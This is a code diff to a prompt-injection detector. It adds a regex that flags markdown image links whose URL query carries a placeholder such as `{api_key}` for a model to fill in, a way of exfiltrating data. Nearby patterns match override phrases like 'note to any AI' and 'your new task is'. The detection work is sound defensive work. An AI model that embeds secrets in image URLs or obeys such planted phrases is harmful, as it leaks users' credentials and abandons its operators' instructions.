@@ -79,6 +79,14 @@ export const PROMPT_INJECTION_SIGNATURES: readonly Signature[] = [
     "\\b(?:note|message|instructions?|attention|important|notice) (?:to|for) (?:the |any |all )?(?:ai|llms?|language models?|ai (?:assistants?|agents?|models?)|chatbots?)\\b|\\bif you(?: are|'re) an? (?:ai|llm|(?:large )?language model|ai (?:assistant|agent|model)|chatbot)\\b",
     0.5,
   ),
+  // Data smuggled out through an image the chat client loads: a markdown image whose URL carries a
+  // placeholder for the model to fill in (`![x](https://host/log?d={api_key})`, `?q=[DATA]`). A
+  // placeholder is a name in braces, brackets, angle brackets or after `$`, so a JSON query such as
+  // `?c={type:'bar'}` and plain links pass.
+  sig(
+    'image-url-placeholder',
+    '!\\[[^\\]\\n]{0,80}\\]\\(\\s?https?://[^)\\s]{1,200}?[?&][\\w.-]{1,30}=(?:\\{\\{? ?[a-z_][\\w.]{0,40} ?\\}|\\[[a-z_ ]{1,30}\\]|<[a-z_ ]{1,30}>|\\$\\{?[a-z_])',
+  ),
   sig(
     'your-new-task',
     `\\b(?:your|the) (?:new|real|actual|true|only|next) (?:task|job|goal|objective|purpose|mission|role|instructions?)\\b${gap(10)}(?:is|are|will be|:)`,
